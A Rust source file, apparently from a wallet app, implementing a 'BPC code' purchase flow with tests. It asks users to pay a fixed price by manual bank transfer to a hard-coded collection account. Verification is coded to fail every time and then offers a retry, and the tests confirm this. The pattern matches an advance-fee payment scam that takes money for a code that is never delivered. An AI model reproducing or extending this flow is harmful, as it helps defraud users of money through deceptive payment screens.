// SPDX-License-Identifier: AGPL-3.0-or-later
//
// Copyright (C) 2026 BluePay Labs

//! BPC code purchase flow.
//!
//! `Form -> Preparing -> Account -> Verifying -> Failed`. The fixed price is
//! paid by manual bank transfer to the CoralPay collection account, and
//! verification always lands on the failure screen ("Unable to validate
//! account"), as in the product. No debit is ever emitted.

use crate::config::AppConfig;
use crate::error::{WalletError, WalletResult};
use crate::sched::Scheduler;

use super::{StepResult, TransferPayee};

/// Collection account shown on the bank-transfer screen.
pub const BPC_PAYEE: TransferPayee = TransferPayee {
    bank: "Sterling bank",
    account_number: "5268583383",
    account_name: "CORALPAY-Next PG",
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BpcState {
    Form,
    Preparing,
    Account,
    Verifying,
    Failed,
}

#[derive(Debug, Clone)]
pub struct BpcForm {
    pub full_name: String,
    pub email: String,
}

#[derive(Debug)]
pub struct BpcFlow {
    state: BpcState,
}

impl Default for BpcFlow {
    fn default() -> Self {
        Self::new()
    }
}

impl BpcFlow {
    pub fn new() -> Self {
        Self {
            state: BpcState::Form,
        }
    }

    pub fn state(&self) -> BpcState {
        self.state
    }

    /// Price and payee for the bank-transfer screen.
    pub fn transfer_details(config: &AppConfig) -> (u64, TransferPayee) {
        (config.bpc_price, BPC_PAYEE)
    }

    /// Submit the form and prepare the account-details screen.
    pub async fn submit(
        &mut self,
        form: &BpcForm,
        config: &AppConfig,
        sched: &Scheduler,
    ) -> WalletResult<StepResult<()>> {
        if form.full_name.is_empty() {
            return Err(WalletError::MissingField { field: "full name" });
        }
        if form.email.is_empty() {
            return Err(WalletError::MissingField { field: "email" });
        }

        self.state = BpcState::Preparing;
        if !sched.step(config.delays.bpc_preparing).await {
            return Ok(StepResult::Cancelled);
        }

        self.state = BpcState::Account;
        Ok(StepResult::Done(()))
    }

    /// The user confirmed the bank transfer. Verification always fails.
    pub async fn confirm_transfer(
        &mut self,
        config: &AppConfig,
        sched: &Scheduler,
    ) -> StepResult<BpcState> {
        self.state = BpcState::Verifying;
        if !sched.step(config.delays.bpc_verifying).await {
            return StepResult::Cancelled;
        }

        self.state = BpcState::Failed;
        tracing::info!("BPC purchase verification failed");
        StepResult::Done(self.state)
    }

    /// Retry from the failure screen back to the form.
    pub fn retry(&mut self) {
        if self.state == BpcState::Failed {
            self.state = BpcState::Form;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn form() -> BpcForm {
        BpcForm {
            full_name: "Ada Obi".to_string(),
            email: "ada@example.com".to_string(),
        }
    }

    #[tokio::test(start_paused = true)]
    async fn purchase_always_ends_on_the_failure_screen() {
        let config = AppConfig::default();
        let sched = Scheduler::new();
        let mut flow = BpcFlow::new();

        flow.submit(&form(), &config, &sched).await.unwrap();
        assert_eq!(flow.state(), BpcState::Account);

        let outcome = flow.confirm_transfer(&config, &sched).await;
        assert_eq!(outcome, StepResult::Done(BpcState::Failed));
    }

    #[tokio::test(start_paused = true)]
    async fn retry_only_applies_from_the_failure_screen() {
        let config = AppConfig::default();
        let sched = Scheduler::new();
        let mut flow = BpcFlow::new();

        flow.retry();
        assert_eq!(flow.state(), BpcState::Form);

        flow.submit(&form(), &config, &sched).await.unwrap();
        flow.retry();
        assert_eq!(flow.state(), BpcState::Account);

        flow.confirm_transfer(&config, &sched).await;
        flow.retry();
        assert_eq!(flow.state(), BpcState::Form);
    }

    #[test]
    fn transfer_screen_shows_fixed_price_and_payee() {
        let (price, payee) = BpcFlow::transfer_details(&AppConfig::default());
        assert_eq!(price, 5_200);
        assert_eq!(payee.bank, "Sterling bank");
        assert_eq!(payee.account_name, "CORALPAY-Next PG");
    }
}
